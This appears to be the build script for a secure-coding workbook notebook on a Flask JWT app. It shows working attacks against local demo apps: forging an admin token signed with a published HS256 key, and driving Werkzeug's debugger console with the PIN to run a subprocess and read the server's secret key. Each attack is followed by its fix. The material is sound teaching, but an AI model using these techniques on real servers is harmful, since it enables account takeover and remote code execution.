"""Build notebooks/01_setup.ipynb (step 01 — Set up) from the cells below.

Edit the cells here, not in the .ipynb, then rebuild and re-execute from the repository root:

    python -m workbook dev notebooks 1
    python -m pytest notebooks/01_setup.ipynb        # nbval: the stored outputs must reproduce

The notebook is stored with its outputs (it renders on GitHub) and nbval compares every one of
them, so each output is deterministic: no raw keys, paths, timestamps or versions.
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _builder import Builder  # noqa: E402

builder = Builder(__file__)
md, code = builder.md, builder.code


# ------------------------------------------------------------------------------------------------
# 1. Opening
# ------------------------------------------------------------------------------------------------

builder.intro(1, r'''
from lab import setup as lab  # notebooks/lab/setup.py: this notebook's picture and helpers, not the lesson
from lab.common import flask_environment, guess, workbook
''')

# ------------------------------------------------------------------------------------------------
# 2. How the workbook works
# ------------------------------------------------------------------------------------------------

md("loop", r'''
## How this workbook works

Every step follows the same loop:

1. **Read the notebook** (this one). It attacks the previous step's app, then shows the fix. For
   step 01 the "previous app" is the classic Flask + JWT tutorial, in `notebooks/classic_app.py`.
2. **Do the exercise** in `steps/step01_setup/`: each `# TODO exercise` comment says what to write.
3. **Check it** from the repository root: `python -m workbook check 1`.
4. **Stuck?** `python -m workbook hint 1` shows one more hint each time you run it.
5. **Try it for real:** `python -m workbook run 1` serves your app on http://127.0.0.1:5000.

The lesson's requests go to an app inside this Python process, through Flask's test client: no
server, no network. The one exception is the cell just below: it runs `python -m workbook check`,
which, like your own checks, also starts the app as a real server on 127.0.0.1 to attack it over
HTTP. This is what a passing verdict looks like: the workbook checking its own reference solution
(`--solution`).
''')

code("check", r'''
# workbook(...) runs `python -m workbook ...` from the repository root and prints what it prints
print("exit code:", workbook("check", "1", "--solution"))
''')

md("doctor-intro", r'''
The verdict names the security property behind each exercise, and the exit code is 0 only when
every check passes. Your own `python -m workbook check 1` fails until you do the exercise: that is
expected.

Before you start (or before a workshop), `doctor` checks your environment: Python version, pinned
packages, the Jupyter kernel, the optional parts. Its output depends on your machine, so nbval
ignores this cell.
''')

code("doctor", r'''
# NBVAL_IGNORE_OUTPUT
workbook("doctor");
''')

# ------------------------------------------------------------------------------------------------
# 3. The application factory and its configuration layers
# ------------------------------------------------------------------------------------------------

md("factory-intro", r'''
## The application factory

The classic tutorial builds its app at import time: `app = Flask(__name__)` at module level, key
included. There is then exactly one app, configured once, by the source code.

An **application factory** is a function that builds and returns a fresh, fully configured app each
time you call it: `create_app(test_config=None)`. Each test gets its own app with its own
configuration; each server process builds its app from that process's environment. Writing step
01's factory is your exercise 1.1, so it is not printed here: the picture below is what it does,
and the reference is at the very end of this notebook, for after your check passes.
''')

md("layers", r'''
### Three layers of configuration

`create_app` loads its configuration in three layers. Each layer overrides the keys that the ones
below it set:

1. **Code defaults** (`config.DEFAULTS`): safe values that may be published with the code. There is
   deliberately *no* default JWT key: anything written in the source is public.
2. **The environment** (`app.config.from_prefixed_env()`): every `FLASK_*` variable, with the prefix
   removed. `FLASK_JWT_SECRET_KEY` sets `JWT_SECRET_KEY`. This is how a server gets its secrets.
3. **`test_config`**: the dictionary the tests pass in. It wins over everything, so a test never
   depends on what happens to be set in your shell.

After loading, `create_app` checks the key and refuses to start with a weak one (more on that
below).
''')

code("layers-picture", r'''
lab.layers_picture()  # the drawing code is in notebooks/lab/setup.py
''')


md("env-demo-intro", r'''
Let's check the first override: the environment. `flask_environment(...)` (in
`notebooks/lab/common.py`) runs a block with exactly the `FLASK_*` variables you give it, and puts
your real environment back afterwards. It also hides any `FLASK_*` variables set in your shell, so
this notebook prints the same thing on every machine.

The key is a fresh random one, so the cell prints a comparison, never the key itself.
''')

code("env-demo", r'''
import secrets

from solutions.step01_setup import config, create_app

env_key = secrets.token_hex(32)  # a fresh 64-hex-character key, as a server would have

with flask_environment(FLASK_JWT_SECRET_KEY=env_key):
    app = create_app()

print("JWT_SECRET_KEY came from FLASK_JWT_SECRET_KEY:", app.config["JWT_SECRET_KEY"] == env_key)
''')

md("test-config-intro", r'''
Now the same environment, plus a `test_config`. The third layer wins, which is what makes tests
independent of whatever your shell happens to contain.
''')

code("test-config-demo", r'''
test_key = secrets.token_hex(32)

with flask_environment(FLASK_JWT_SECRET_KEY=env_key):
    app = create_app({"JWT_SECRET_KEY": test_key})

print("JWT_SECRET_KEY is the test_config key:  ", app.config["JWT_SECRET_KEY"] == test_key)
print("JWT_SECRET_KEY is the environment's key:", app.config["JWT_SECRET_KEY"] == env_key)
''')

builder.your_turn("layers", r'''
The environment sets `FLASK_JWT_SECRET_KEY`, and a test passes a `test_config` that sets only
`{"DEBUG": False}`, no key. **Predict**: does the app get the environment's key, or no key at all
(so it refuses to start)? Write your guess, then run the cell.
''', r'''
prediction = ...  # "the environment's key" or "no key"

if prediction is ...:
    print("Write your prediction on the first line (replace the ...), then run this cell again.")
else:
    with flask_environment(FLASK_JWT_SECRET_KEY=env_key):
        try:
            app = create_app({"DEBUG": False})
            outcome = "the environment's key" if app.config["JWT_SECRET_KEY"] == env_key else "another key"
        except config.InsecureConfigError:
            outcome = "no key"
    print("you predicted:", guess(prediction), "| the app got:", outcome)
''', r'''
# Each layer overrides only the keys it sets; a key it does not mention keeps the value below it.
with flask_environment(FLASK_JWT_SECRET_KEY=env_key):
    app = create_app({"DEBUG": False})
print("JWT_SECRET_KEY from the environment:", app.config["JWT_SECRET_KEY"] == env_key)
print("DEBUG from test_config:             ", app.config["DEBUG"])
''', r'''
**The environment's key.** `from_mapping` and `from_prefixed_env` set the keys they are given and
leave the others alone: a layer is a set of overrides, not a replacement of the whole configuration.
That is why a test that wants a known key must pass one, and why the tests of this workbook remove
your shell's `FLASK_*` variables before each test.
''')

# ------------------------------------------------------------------------------------------------
# 4. The attack
# ------------------------------------------------------------------------------------------------

md("attack-intro", r'''
## The attack: a token for anyone, signed with the tutorial's key

The classic tutorial signs its tokens with HS256, an HMAC: the same secret key **signs** a token and
**verifies** it. A valid signature proves only one thing: whoever made the token knew the key.

The tutorial's key is `your_jwt_secret_key`, hard-coded in the source and published with it. Every
copy of that app that kept the line accepts tokens from *anyone who has read the tutorial*.

You are that outsider. You never register, never log in, never send a password: you sign a token
for `admin` yourself, with PyJWT, and set it to expire in the year 2100 (`exp` is 4102444800
seconds after 1970, that is 1 January 2100).
''')

code("forge", r'''
import warnings

import jwt  # PyJWT, the library Flask-JWT-Extended itself uses

import classic_app  # notebooks/classic_app.py: the tutorial's app, as it is usually taught

PUBLISHED_KEY = "your_jwt_secret_key"  # copied from the tutorial, like any reader can

print("users registered on the classic app:", classic_app.users)

with warnings.catch_warnings(record=True) as caught:
    warnings.simplefilter("always")
    forged = jwt.encode({"sub": "admin", "exp": 4102444800}, PUBLISHED_KEY, algorithm="HS256")

for warning in caught:
    print(f"\nPyJWT warned ({warning.category.__name__}):\n  {warning.message}")
''')

md("anatomy-intro", r'''
The library warned: 19 bytes is below the 32 bytes RFC 7518 §3.2 requires for HS256. But a
warning is not a control; the token was signed anyway.

What did you make? A JWT is three base64url parts joined by dots: a **header**, a **payload**, and
a **signature** over the first two. The header and the payload are only encoded, not encrypted:
anyone can read them. Only the signature needs the key.
''')

code("anatomy", r'''
import base64, json
from datetime import datetime, timezone


def b64url_decode(part):
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))  # JWTs drop the "=" padding


header, payload, signature = forged.split(".")

print("header:", json.dumps(json.loads(b64url_decode(header)), indent=2))
print("payload:", json.dumps(json.loads(b64url_decode(payload)), indent=2))
print("signature:", len(b64url_decode(signature)), "bytes of HMAC-SHA256 over 'header.payload'")
print("expires:", datetime.fromtimestamp(4102444800, timezone.utc).isoformat())
''')

md("send-intro", r'''
Now send it to the classic app's protected route, as any HTTP client would, in an
`Authorization: Bearer` header.
''')

code("send", r'''
client = classic_app.app.test_client()

with warnings.catch_warnings(record=True) as server_side:
    warnings.simplefilter("always")
    response = client.get("/protected", headers={"Authorization": f"Bearer {forged}"})

print(response.status_code, json.dumps(response.get_json()))
print("users registered on the classic app:", classic_app.users)
print("PyJWT warned on the server too, while verifying:",
      any(w.category.__name__ == "InsecureKeyLengthWarning" for w in server_side))
''')

builder.your_turn("forge-bob", r'''
Now forge one yourself: a token for `bob` (nobody registered him either) that expires on
1 January 2030 (`exp` = 1893456000). Replace the two `...` below: your prediction of the status the
classic app answers, and one `jwt.encode(...)` line like the one above. Then run the cell.
''', r'''
prediction = ...  # the status code the classic app will answer
my_token = ...    # jwt.encode({...}, PUBLISHED_KEY, algorithm="HS256")

if my_token is ...:
    print("Replace the ... of my_token with your forged token, then run this cell again.")
else:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the 19-byte key warning, seen above
        response = client.get("/protected", headers={"Authorization": f"Bearer {my_token}"})
    print("you predicted:", guess(prediction), "| the answer:", response.status_code, json.dumps(response.get_json()))
''', r'''
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    bobs = jwt.encode({"sub": "bob", "exp": 1893456000}, PUBLISHED_KEY, algorithm="HS256")
    response = client.get("/protected", headers={"Authorization": f"Bearer {bobs}"})
print(response.status_code, json.dumps(response.get_json()))
''', r'''
**200, logged in as `bob`.** The server checks one thing: that the signature was made with its
key. It does not check that `bob` exists, that anyone logged in, or who made the token. With the
key published, the signature proves nothing.
''')

md("attack-lesson", r'''
**200, logged in as `admin`**, a user that does not even exist. The token carries nothing but a
subject and an expiry, and the app accepted it: the signature checked out, because you used the
same key the server uses. Swap `admin` for any real user name and you are that user, with no
password and no trace of a login.

The server-side warning goes to a log that nobody reads. The problem is not that the key is
short; it is that the key is **known**. Two rules follow:

- The key never appears in source code; it comes from the environment or a secret store
  (OWASP ASVS 5.0 **V13.3.1**).
- It is long and random: at least 256 bits for HS256 (**RFC 7518 §3.2**), from a CSPRNG
  (ASVS **V11.5.1**).
''')

# ------------------------------------------------------------------------------------------------
# 5. The fix
# ------------------------------------------------------------------------------------------------

md("refuse-intro", r'''
## The fix, part 1: refuse to start with a weak key

Step 01's `create_app` calls `config.check_jwt_secret(...)` after loading the configuration. If
the key is missing, a published placeholder, short, or not random, it raises `InsecureConfigError`,
a `click.ClickException`. `flask run` prints such an exception as `Error: <message>` and stops, so
the cell below prints exactly what you would see in the terminal.
''')

code("refuse", r'''
def try_to_start(key):
    """What `flask run` would print with this key (or that the app starts)."""
    try:
        create_app({"JWT_SECRET_KEY": key})
    except config.InsecureConfigError as exc:
        return f"Error: {exc.format_message()}"
    return "the app starts"


print(try_to_start("your_jwt_secret_key"))
''')

md("refuse-more", r'''
The tutorial's key is refused twice over: it is on the list of published placeholders
(`config.KNOWN_PLACEHOLDERS`, checked first), and it is 19 bytes where HS256 needs at least 32. The
list matters most for keys that pass every other rule and are just as public, such as
`change-this-secret-key-in-production`, or the random-looking example output of
`secrets.token_hex()` in Flask's own documentation, which apps in the wild use as is. The first
line of each refusal:
''')

code("refuse-table", r'''
candidates = {
    "no key at all": None,
    "'secret'": "secret",
    "64 times 'a'": "a" * 64,
    "a long published placeholder": "change-this-secret-key-in-production",
    "secrets.token_hex(32)": secrets.token_hex(32),
}
for label, key in candidates.items():
    print(f"{label:30} -> {try_to_start(key).splitlines()[0]}")
''')

md("random-intro", r'''
### Length is not randomness

A length rule and a "enough different characters" rule are easy to pass with keys an attacker
guesses at once. A pentest of this course's API started an earlier version of step 01 with each of
the three keys below, and all three are 32 bytes or more:

- `'abcdefgh' * 4`: 32 bytes, 8 different characters, and one guess for anyone who tries patterns;
- an English sentence: 43 bytes, and attackers try phrases word by word, not letter by letter;
- `secrets.token_hex(16)`: 32 hex characters from a CSPRNG, but a hex character carries 4 bits, so
  the key holds 128 random bits, half what HS256 needs.

RFC 7518 §3.2's 256 bits are bits of *key*: what counts is how much an attacker must guess. So
step 01 estimates it, with `config.estimated_entropy(key)`: 4 bits for a hex character, 6 for
base64, more for a wider alphabet; nothing for a part that repeats an earlier one or continues a
run; about 14 bits per word of a phrase. No test can prove that a string is random (RFC 8725 §3.5:
keys must come from a CSPRNG, not from people); this one refuses what people actually paste, and
never refused a key from `secrets.token_hex(32)` in 100,000 tries.
''')

code("random-table", r'''
looks_long = {
    "'abcdefgh' * 4": "abcdefgh" * 4,
    "an English sentence": "the quick brown fox jumps over the lazy dog",
    "secrets.token_hex(16)": secrets.token_hex(16),
    "secrets.token_hex(32)": secrets.token_hex(32),
}
for label, key in looks_long.items():
    bits, why = config.estimated_entropy(key)
    verdict = "starts" if try_to_start(key) == "the app starts" else "refused"
    print(f"{label:22} {len(key.encode()):3} bytes, ~{bits:3} bits, {verdict:7}: {why}")
''')

md("worthless-intro", r'''
## The fix, part 2: with a strong key, the forged token is worthless

Give the classic app a fresh random key (the `finally` puts the published key back, so the cells
above can be re-run) and send it the very same forged token.
''')

code("worthless", r'''
try:
    classic_app.app.config["JWT_SECRET_KEY"] = secrets.token_hex(32)  # known to no one
    response = client.get("/protected", headers={"Authorization": f"Bearer {forged}"})
finally:
    classic_app.app.config["JWT_SECRET_KEY"] = PUBLISHED_KEY

print(response.status_code, json.dumps(response.get_json()))
''')

md("worthless-lesson", r'''
Rejected: the signature no longer matches, and without the key you cannot make one that does.

Note the status: by default Flask-JWT-Extended answers a token whose signature does not verify with
**422** (Unprocessable Content, RFC 9110 §15.5.21; "Unprocessable Entity" in older texts), not 401. Step 05 gives every error one envelope and turns every token failure into a 401.
''')

md("make-key", r'''
### Making a key

Use Python's `secrets` module, which draws from the operating system's CSPRNG (ASVS **V11.5.1**;
the `random` module is predictable and must never make keys):

```
python -c "import secrets; print(secrets.token_hex(32))"
```

32 random bytes are 256 bits, the minimum RFC 7518 §3.2 sets for HS256 ("a key of the same size as
the hash output"), written as 64 hexadecimal characters. Put the key in `FLASK_JWT_SECRET_KEY` and
nowhere in your code or your repository (ASVS **V13.3.1**); in production, keep it in your
platform's secret store. `python -m workbook run 1` makes a development key for you, in the
git-ignored `.workbook/` folder.
''')

code("make-key-demo", r'''
key = secrets.token_hex(32)

print("characters:", len(key), "(hexadecimal)")
print("random bytes:", len(bytes.fromhex(key)), "=", 8 * len(bytes.fromhex(key)), "bits")
print("create_app with it:", try_to_start(key))
''')

md("guesses-intro", r'''
### How long would guessing take?

A back-of-the-envelope comparison, with a round assumption: an attacker who tests a billion keys
per second. Be honest about the first row: nobody *guesses* `your_jwt_secret_key`; they copy it
from the tutorial, and the same goes for any key that was ever published.
''')

code("guesses", r'''
RATE = 10**9  # keys tested per second: a round assumption, for illustration
DAY = 24 * 3600
YEAR = 365.25 * DAY


def worst_case(keys):
    seconds = keys / RATE
    if seconds < 1:
        return "instantly"
    if seconds < YEAR:
        return f"{seconds / DAY:.0f} days"
    return f"{seconds / YEAR:.1e} years"


approaches = [
    ("copied from the tutorial", 1),
    ("4 words from a 7,776-word list", 7776**4),
    ("19 random characters of 64", 64**19),
    ("secrets.token_hex(32)", 2**256),
]
print(f"{'the key is':34}{'keys to try':>12}   {'time, at most'}")
for label, keys in approaches:
    print(f"{label:34}{keys:>12.1e}   {worst_case(keys)}")
''')

md("guesses-lesson", r'''
The attack does not even need your server. `hashcat` (mode 16500, "JWT") takes **one** token
captured from your API, from a log, a browser or a proxy, and tests candidate keys **offline**, as
fast as the attacker's hardware allows: your server never sees an attempt and rate limiting cannot
help. Lists of leaked and published keys are tried first, and a key made from words falls to a
dictionary attack long before the second row's worst case. Only a key that is random and long is
out of reach: that is why the check demands 32 bytes and why the key must come from `secrets`.
''')

# ------------------------------------------------------------------------------------------------
# 6. Debug mode
# ------------------------------------------------------------------------------------------------

md("debug-intro", r'''
## Why `debug=True` in production is remote code execution

The classic app ends with `app.run(debug=True)`. In debug mode Flask lets exceptions propagate and
the development server wraps the app in Werkzeug's debugger:
`werkzeug.debug.DebuggedApplication(app, evalex=True)`. When a request fails, the debugger answers
with an HTML page showing the traceback and, in every frame, an interactive Python console
(`evalex` = evaluate expressions).

Let's do what `app.run(debug=True)` does, without a server: a tiny shop app with a bug (an order
number of 0 divides by zero), wrapped in the debugger, and one request from the outside.
''')

code("debug-page", r'''
import io

from flask import Flask
from werkzeug.debug import DebuggedApplication
from werkzeug.test import Client

shop = Flask("shop")
shop.config["JWT_SECRET_KEY"] = secrets.token_hex(32)  # a secret, held in the server's memory
shop.debug = True  # what app.run(debug=True) sets: exceptions propagate to the debugger


@shop.get("/orders/<int:number>")
def order(number):
    share = 100 / number  # the bug: /orders/0 divides by zero
    return {"share": share}


debugged = DebuggedApplication(shop, evalex=True)  # what the debug server wraps the app in
outsider = Client(debugged)

server_log = io.StringIO()  # the debugger also writes the traceback to the server's error log
page = outsider.get("/orders/0", errors_stream=server_log)
html = page.get_data(as_text=True)

print("status:", page.status_code, page.mimetype)
print("traceback with the exception:      ", "ZeroDivisionError: division by zero" in html)
print("the app's source lines in the page:", "share = 100 / number" in html)
print("console enabled (EVALEX = true):   ", "EVALEX = true" in html)
print("debugger commands (?__debugger__=):", "__debugger__=yes" in html)
print("locked by a PIN (EVALEX_TRUSTED):  ", "EVALEX_TRUSTED = false" in html)
print("the page says where the PIN is:    ", "printed out on the standard output" in html)
''')

md("debug-page-lesson", r'''
Anyone who can make a request fail (and finding one failing URL is rarely hard) gets your source
code, line by line, frame by frame, and an input box that runs Python **on the server**. The only
lock is a PIN, which the debug server prints in its own log at start-up.

Werkzeug 3.0.3 and later add one more check: the console only works if the request's `Host`
header names `localhost`, `127.0.0.1` or the address the server was started on
(`DebuggedApplication.trusted_hosts`). That header is written by the client. Behind a proxy that sets it to your domain name, the console is off, but the
traceback and your source still show; an attacker who reaches the server directly simply sends
`Host: localhost`.
''')

code("debug-host", r'''
for host in ("api.example.com", "localhost"):
    page = outsider.get("/orders/0", headers={"Host": host}, errors_stream=io.StringIO())
    html_for_host = page.get_data(as_text=True)
    print(f"Host: {host:16} console enabled: {'EVALEX = true' in html_for_host!s:5}  "
          f"source shown: {'share = 100 / number' in html_for_host}")
''')

md("debug-rce-intro", r'''
What does the PIN protect? Here we play both sides: as the server, we can read the PIN the debug
server would print in its log; as the attacker, we send it. The console's commands are plain GET
requests that carry the page's `SECRET` and a frame id, both found in the page itself.
''')

code("debug-rce", r'''
# lab.DebuggerConsole sends GET /?__debugger__=yes&cmd=...&frm=<frame>&s=<SECRET>, as the page's script does
console = lab.DebuggerConsole(outsider, html)

# print(...), not bare expressions: inside a notebook, IPython would capture their values.
status, _ = console.run("print(number)")
print("without the PIN: the command is ignored, status", status)

print("send the PIN:", json.dumps(console.pin(debugged.pin)))

print("with the PIN, print(number) prints:", console.run("print(number)")[1])
command = ("print(__import__('subprocess').run([__import__('sys').executable, '-c', "
           "'print(\"a program of my choice ran on the server\")'], "
           "capture_output=True, text=True).stdout)")
print("run a program on the server:", console.run(command)[1])
stolen = console.run("print(shop.config['JWT_SECRET_KEY'])")[1]
print("read the server's JWT key:", stolen == shop.config["JWT_SECRET_KEY"])
''')

md("debug-lesson", r'''
Once the PIN is accepted, every request runs the attacker's code: any program, as the server's
user, and any secret in the server's memory: the JWT key, the database password, everything.

The PIN is not a security boundary. Werkzeug derives it from facts about the machine, not from
randomness: the user name, the path of Flask's own `app.py` (the traceback page shows it), the
network card's MAC address and the machine id. Werkzeug refuses PINs after 10 wrong attempts, until
the server restarts, so attackers do not guess it: they read it from a log, or compute it from
facts that a second bug, such as a file-read vulnerability, reveals. The Flask documentation says the PIN
"should not be relied on for security", and Werkzeug's says the debugger "must never be used on
production machines".

OWASP ASVS 5.0 **V13.4.2**: debug modes are disabled in production. Step 01's app has `DEBUG` off
by default, and there is no need to turn it on at all: the debugger listens to anyone who can reach
the port, and a development server on a café's Wi-Fi or a shared lab machine is reachable. From
step 05 the app **refuses to start** with `FLASK_DEBUG=1`, `flask run --debug` or
`flask run --debugger`. To find a bug, use your editor's debugger (or `breakpoint()` and
`python -m pdb`), and the traceback that the log keeps under the request id (step 05).
''')

code("debug-contrast", r'''
with flask_environment():  # no FLASK_* variables: the code default decides
    step01 = create_app({"JWT_SECRET_KEY": secrets.token_hex(32)})
print("step 01 app, debug mode:", step01.debug)

tutorial_line = next(line for line in (pathlib.Path("classic_app.py").read_text(encoding="utf-8")
                                       .splitlines()) if line.strip().startswith("app.run("))
print("the classic app's last line:", tutorial_line.strip())
''')

# ------------------------------------------------------------------------------------------------
# 7. Closing
# ------------------------------------------------------------------------------------------------

md("wrap-up", r'''
## What you saw

- A token signed with a published key is a valid token: the classic app let an outsider in as
  `admin` without a password.
- Step 01 refuses to start without a strong key from the environment, and with a random 256-bit key
  the forged token is rejected.
- Debug mode hands anyone who can trigger an error your source code and, behind a PIN that is not
  a security boundary, a Python console on your server.

Now build it yourself.
''')

builder.outro(1)

md("reference-intro", r'''
## After your check passes: the reference factory

**Spoiler**: this is the solution of exercises 1.1 and 1.2. Read it once `python -m workbook check 1`
passes, and compare it with yours; `python -m workbook diff 1` shows the whole lesson as a diff.
''')

code("reference", r'''
from lab.common import solution_source

solution_source("step01_setup", "__init__.py")  # the exercise markers removed
''')


build = builder.build

if __name__ == "__main__":
    builder.main()
